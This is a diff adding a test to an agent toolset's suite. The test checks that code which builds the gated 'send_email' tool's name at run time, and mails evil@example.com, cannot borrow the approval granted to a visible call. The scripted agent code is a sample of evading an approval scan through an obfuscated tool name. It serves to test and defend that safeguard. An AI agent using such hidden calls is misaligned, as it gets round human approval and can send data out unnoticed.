@@ -172,6 +172,27 @@ async def test_gated_call_the_scan_cannot_see_is_denied_in_the_program() -> None
     assert SENT == []
 
 
+async def test_a_hidden_gated_call_never_takes_the_grant_of_a_shown_one() -> None:
+    """The program names one send_email and builds another's name at run time: grants are
+    per tool, so approving the shown call would let the hidden one (first) take it. The
+    person is not asked; both are denied, with a reason that says to name gated tools."""
+    SENT.clear()
+    seen: list[list[ModelMessage]] = []
+    code = (
+        'name = "send_" + "email"\n'
+        'try:\n    call_tool(name, to="evil@example.com", body="x")\n'
+        "except ToolDenied as e:\n    print('hidden denied:', e)\n"
+        'send_email(to="a@example.com", body="hi")'
+    )
+    toolset = CodeActToolset(tools=[send_email], require_approval=["send_email"])
+    agent = Agent(scripted(code, seen), toolsets=[toolset], output_type=[str, DeferredToolRequests])
+    result = await agent.run("mail a")
+    assert not isinstance(result.output, DeferredToolRequests)  # nothing put to a person
+    assert SENT == []
+    assert "hidden denied" in result.output
+    assert "with a literal name" in result.output
+
+
 def test_options_and_a_ready_codeact_are_exclusive() -> None:
     from codeact import CodeAct
 
